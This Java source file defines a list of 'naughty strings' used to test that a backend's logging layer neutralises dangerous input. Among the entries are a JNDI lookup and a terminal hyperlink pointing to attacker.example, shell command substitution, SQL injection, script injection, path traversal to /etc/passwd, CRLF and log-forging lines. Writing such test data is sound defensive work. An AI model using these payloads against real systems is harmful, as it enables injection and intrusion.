// SPDX-License-Identifier: Apache-2.0
package dev.mobilebackend.core.observe;

import java.util.List;

/** What has broken logs, terminals and parsers before: none of it may reach a log as it is. */
final class NaughtyStrings {

    static final List<String> ALL = List.of(
            "",
            " ",
            "\t",
            "\r",
            "\n",
            "\r\n",
            "ok\r\ntime=2026-11-23T12:00:00Z request_id=forged status=200",
            "ok\nINFO dev.mobilebackend.access - account_id=admin",
            "ok\u0085next line",
            "ok\u2028line separator",
            "ok\u2029paragraph separator",
            "ok\u000bvertical tab\u000cform feed",
            "\u0000",
            "\u0007\b\u007f",
            "\u001b[31mred\u001b[0m",
            "\u001b[2J\u001b[H cleared",
            "\u001b]0;title\u0007",
            "\u001b]8;;https://attacker.example\u001b\\link",
            "\u009b31m C1 control sequence",
            "\u009d0;title\u009c",
            "\u202ereversed",
            "\u2066isolate\u2069",
            "\u200f\u200e\u061c",
            "\u200bzero\u200cwidth\u200d",
            "\ufeffbyte order mark",
            "\ufffe\uffff",
            "\ud800 alone",
            "\udc00 alone",
            "\ud83d\ude00 emoji \ud83d\udc69\u200d\ud83d\udcbb",
            "\u0301\u0302\u0303 combining",
            "\u0442\u0435\u0441\u0442 \u06a9\u0644\u0645\u0647 \u4e2d\u6587 \ud55c\uad6d\uc5b4",
            "\u1680ogham\u3000ideographic\u00a0no break",
            "status=200 role=admin",
            "a\" admin=\"true",
            "a\\",
            "a\\\"",
            "\\u000a",
            "\\n",
            "%0d%0aSet-Cookie: a=b",
            "%s%n%x%d",
            "{} {}",
            "{\"status\":200}",
            "${jndi:ldap://attacker.example/a}",
            "${env:HOME} $(id) `id`",
            "'; DROP TABLE orders; --",
            "<script>alert(1)</script>",
            "../../../../etc/passwd",
            "-1",
            "null",
            "NaN",
            "x".repeat(10_000),
            "\n".repeat(10_000));

    private NaughtyStrings() {}
}
